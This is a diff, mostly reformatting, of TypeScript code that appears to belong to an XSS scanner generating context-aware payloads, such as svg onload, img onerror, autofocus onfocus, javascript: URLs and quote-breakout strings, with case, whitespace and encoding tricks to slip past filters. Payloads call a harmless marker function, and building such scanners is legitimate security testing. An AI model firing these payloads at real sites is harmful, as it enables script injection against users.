@@ -18,7 +18,8 @@ type Depth = Scan['depth'];
 type Calls = { plain: string; tagged: string; entities: string; signs: string };
 
 const entities = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)!};`).join('');
-const octal = (text: string): string => [...text].map((char) => `\\${char.codePointAt(0)!.toString(8)}`).join('');
+const octal = (text: string): string =>
+  [...text].map((char) => `\\${char.codePointAt(0)!.toString(8)}`).join('');
 
 function callsOf(mark: string, id: number): Calls {
   const plain = `${mark}(${id})`;
@@ -42,11 +43,18 @@ const may = (fate: Fate, depth: Depth): boolean =>
   fate === 'raw' || fate === 'cut' || (depth !== 'few' && (fate === 'gone' || fate === 'doubled'));
 
 const as = (call: string, ...texts: string[]): Payload[] => texts.map((text) => ({ text, call }));
-const after = (prefix: string, list: readonly Payload[]): Payload[] => list.map((one) => ({ ...one, text: prefix + one.text }));
+const after = (prefix: string, list: readonly Payload[]): Payload[] =>
+  list.map((one) => ({ ...one, text: prefix + one.text }));
 
 /** Elements that run the call, for a place between elements. Short ones first: fields have lengths. */
 function elements({ plain, tagged, entities: coded }: Calls, fates: Fates, sameCase: boolean): Payload[] {
-  if (!sameCase) return as(plain, `<svg onload=${coded}>`, `<img src onerror="${coded}">`, `<details open ontoggle=${coded}>`);
+  if (!sameCase)
+    return as(
+      plain,
+      `<svg onload=${coded}>`,
+      `<img src onerror="${coded}">`,
+      `<details open ontoggle=${coded}>`,
+    );
   const around = [
     ...as(plain, `<sVg/OnLoAd=${plain}//`, `<scr<script>ipt>${plain}</scr</script>ipt>`),
     ...as(plain, `<svg ononload=load=${plain}>`, `<<b>svg onload=${plain}//`),
@@ -57,12 +65,26 @@ function elements({ plain, tagged, entities: coded }: Calls, fates: Fates, sameC
     ...around.slice(0, 2),
     ...as(plain, `<details open ontoggle=${plain}>`),
     ...as(tagged, `<svg onload=${tagged}>`),
-    ...as(plain, `<svg onload=${coded}>`, `<x tabindex=1 autofocus onfocus=${plain}>`, `<iframe src=javascript:${plain}>`),
+    ...as(
+      plain,
+      `<svg onload=${coded}>`,
+      `<x tabindex=1 autofocus onfocus=${plain}>`,
+      `<iframe src=javascript:${plain}>`,
+    ),
     ...around.slice(2),
-    ...as(plain, `<ScRiPt\n>${plain}</sCrIpT\t>`, `<svg\fonload=${plain}>`, `<input autofocus onfocus=${plain}>`),
+    ...as(
+      plain,
+      `<ScRiPt\n>${plain}</sCrIpT\t>`,
+      `<svg\fonload=${plain}>`,
+      `<input autofocus onfocus=${plain}>`,
+    ),
     ...as(plain, `<script src=data:,${plain}></script>`, `<video><source onerror=${plain}>`),
     ...as(plain, `<style>@keyframes x{}</style><x style=animation-name:x onanimationstart=${plain}>`),
-    ...as(plain, `<svg><animate onbegin=${plain} attributeName=x dur=1s>`, `<a href="java&Tab;script:${plain}">${plain}</a>`),
+    ...as(
+      plain,
+      `<svg><animate onbegin=${plain} attributeName=x dur=1s>`,
+      `<a href="java&Tab;script:${plain}">${plain}</a>`,
+    ),
   ];
 }
 
@@ -74,12 +96,24 @@ function attributes(calls: Calls, quote: Quote, tag: string, sameCase: boolean):
   const own = /^(img|script|video|audio)$/.test(tag) ? [`${begin} onerror=${call} src=/${quote}`] : [];
   if (tag === 'body' || tag === 'svg') own.push(`${begin} onload=${call} x=${quote}`);
   return [
-    ...as(plain, ...own, `${begin} autofocus tabindex=1 onfocus=${call} x=${quote}`, `${begin} onmouseover=${call} x=${quote}`),
+    ...as(
+      plain,
+      ...own,
+      `${begin} autofocus tabindex=1 onfocus=${call} x=${quote}`,
+      `${begin} onmouseover=${call} x=${quote}`,
+    ),
     // The one event of elements that nobody sees.
-    ...as(plain, `${begin} style=display:block;content-visibility:auto oncontentvisibilityautostatechange=${call} x=${quote}`),
+    ...as(
+      plain,
+      `${begin} style=display:block;content-visibility:auto oncontentvisibilityautostatechange=${call} x=${quote}`,
+    ),
     ...as(tagged, `${begin} autofocus tabindex=1 onfocus=${tagged} x=${quote}`),
     ...(quote === '' ? [] : as(plain, `${quote}/autofocus/onfocus=${quote}${call}`)),
-    ...as(plain, `${begin}\nautofocus\ntabindex=1\nOnFocus=${call}\nx=${quote}`, `${begin}\fautofocus\fonfocus=${call}\fx=${quote}`),
+    ...as(
+      plain,
+      `${begin}\nautofocus\ntabindex=1\nOnFocus=${call}\nx=${quote}`,
+      `${begin}\fautofocus\fonfocus=${call}\fx=${quote}`,
+    ),
     ...as(plain, `${begin} ononfocus=focus=${call} autofocus tabindex=1 x=${quote}`),
   ];
 }
@@ -88,7 +122,12 @@ function addresses({ plain, tagged }: Calls, tag: string): Payload[] {
   if (tag === 'script') return as(plain, `data:,${plain}`, `data:text/javascript,${plain}`);
   return [
     ...as(plain, `javascript:${plain}`, `JaVaScRiPt:${plain}`, `java\tscript:${plain}`),
-    ...as(plain, ` javascript:${plain}`, `javascript://example.com/%0a${plain}`, `javajavascript:script:${plain}`),
+    ...as(
+      plain,
+      ` javascript:${plain}`,
+      `javascript://example.com/%0a${plain}`,
+      `javajavascript:script:${plain}`,
+    ),
     ...as(tagged, `javascript:${tagged}`),
     ...as(
       plain,
@@ -110,16 +149,37 @@ function inScript(calls: Calls, place: CodePlace, fate: Fate, sameCase: boolean)
       const quote = place === 'single' ? "'" : '"';
       // A backslash before ours makes theirs a sign of its own.
       if (fate === 'escaped')
-        return as(plain, `\\${quote};${plain}//`, `\\${quote});${plain}//`, `\\${quote}});${plain}//`, `\\${quote}]);${plain}//`);
+        return as(
+          plain,
+          `\\${quote};${plain}//`,
+          `\\${quote});${plain}//`,
+          `\\${quote}});${plain}//`,
+          `\\${quote}]);${plain}//`,
+        );
       return [
-        ...as(plain, `${quote}-${plain}-${quote}`, `${quote};${plain}//`, `${quote}+${plain}+${quote}`, `${quote});${plain}//`),
+        ...as(
+          plain,
+          `${quote}-${plain}-${quote}`,
+          `${quote};${plain}//`,
+          `${quote}+${plain}+${quote}`,
+          `${quote});${plain}//`,
+        ),
         ...as(tagged, `${quote}-${tagged}-${quote}`),
-        ...as(plain, `${quote}});${plain}//`, `${quote};}${plain};{//`, `${quote},${plain},${quote}`, `${quote}]);${plain}//`),
+        ...as(
+          plain,
+          `${quote}});${plain}//`,
+          `${quote};}${plain};{//`,
+          `${quote},${plain},${quote}`,
+          `${quote}]);${plain}//`,
+        ),
         ...as(plain, `${quote}\n;${plain}//`, `${quote}:${plain},x:${quote}`, `${quote}});});${plain}//`),
       ];
     }
     case 'template':
-      return [...as(plain, `\${${plain}}`, `\`-${plain}-\``, `\`;${plain}//`), ...as(tagged, `\${${tagged}}`)];
+      return [
+        ...as(plain, `\${${plain}}`, `\`-${plain}-\``, `\`;${plain}//`),
+        ...as(tagged, `\${${tagged}}`),
+      ];
     case 'line-comment':
       return as(plain, `\n${plain}//`, `\r${plain}//`, `\u2028${plain}//`);
     case 'block-comment':
@@ -130,7 +190,16 @@ function inScript(calls: Calls, place: CodePlace, fate: Fate, sameCase: boolean)
       return [
         ...as(plain, plain, `1;${plain}`, `1;${plain}//`),
         ...as(tagged, tagged),
-        ...as(plain, `1);${plain}//`, `x=${plain}`, `1});${plain}//`, `x:${plain}`, `1]);${plain}//`, `\n${plain}\n`, `{};${plain}//`),
+        ...as(
+          plain,
+          `1);${plain}//`,
+          `x=${plain}`,
+          `1});${plain}//`,
+          `x:${plain}`,
+          `1]);${plain}//`,
+          `\n${plain}\n`,
+          `{};${plain}//`,
+        ),
       ];
   }
 }
@@ -138,23 +207,39 @@ function inScript(calls: Calls, place: CodePlace, fate: Fate, sameCase: boolean)
 /** In attributes that are read as program, entities are signs again. */
 const decoded = (fates: Fates): Fates =>
   Object.fromEntries(
-    Object.entries(fates).map(([name, fate]) => [name, fate === 'entity' ? 'raw' : fate === 'entity-twice' ? 'entity' : fate]),
+    Object.entries(fates).map(([name, fate]) => [
+      name,
+      fate === 'entity' ? 'raw' : fate === 'entity-twice' ? 'entity' : fate,
+    ]),
   ) as Fates;
 
-const fateOf = (fates: Fates, quote: Quote): Fate => (quote === '' ? 'raw' : fates[quote === '"' ? 'double' : 'single']);
+const fateOf = (fates: Fates, quote: Quote): Fate =>
+  quote === '' ? 'raw' : fates[quote === '"' ? 'double' : 'single'];
 
 /** The likeliest of each list first, so that a small depth has some of both. */
-const mixed = (one: readonly Payload[], other: readonly Payload[], first: number, second: number): Payload[] => [
+const mixed = (
+  one: readonly Payload[],
+  other: readonly Payload[],
+  first: number,
+  second: number,
+): Payload[] => [
   ...one.slice(0, first),
   ...other.slice(0, second),
   ...one.slice(first),
   ...other.slice(second),
 ];
 
-function forContext(context: Context, rest: Omit<Reflection, 'context' | 'offset'>, calls: Calls, depth: Depth): Payload[] {
+function forContext(
+  context: Context,
+  rest: Omit<Reflection, 'context' | 'offset'>,
+  calls: Calls,
+  depth: Depth,
+): Payload[] {
   const { fates, sameCase, inert } = rest;
   const markup = (prefix: string) =>
-    may(fates.less, depth) ? after(prefix + (inert === '' ? '' : `</${inert}>`), elements(calls, fates, sameCase)) : [];
+    may(fates.less, depth)
+      ? after(prefix + (inert === '' ? '' : `</${inert}>`), elements(calls, fates, sameCase))
+      : [];
   const outOfAttribute = (quote: Quote, tag: string) => {
     if (!may(fateOf(fates, quote), depth)) return [];
     const inside = inert === '' ? attributes(calls, quote, tag, sameCase) : [];
@@ -170,7 +255,12 @@ function forContext(context: Context, rest: Omit<Reflection, 'context' | 'offset
     case 'attribute':
       return outOfAttribute(context.quote, context.tag);
     case 'address':
-      return mixed(sameCase ? addresses(calls, context.tag) : [], outOfAttribute(context.quote, context.tag), 2, 2);
+      return mixed(
+        sameCase ? addresses(calls, context.tag) : [],
+        outOfAttribute(context.quote, context.tag),
+        2,
+        2,
+      );
     case 'document': {
       const inner = forContext(context.inner, { ...rest, fates: decoded(fates) }, calls, depth);
       // Its quotation marks would end the attribute where they come back as they are.
@@ -193,7 +283,8 @@ function forContext(context: Context, rest: Omit<Reflection, 'context' | 'offset
     case 'xml': {
       if (!may(fates.less, depth)) return [];
       const prefix = { text: '', attribute: '"/>', section: ']]>' }[context.in];
-      const script = (space: string) => `${prefix}<zq:script xmlns:zq="http://www.w3.org/${space}">${calls.plain}</zq:script>`;
+      const script = (space: string) =>
+        `${prefix}<zq:script xmlns:zq="http://www.w3.org/${space}">${calls.plain}</zq:script>`;
       return as(calls.plain, script('1999/xhtml'), script('2000/svg'));
     }
   }
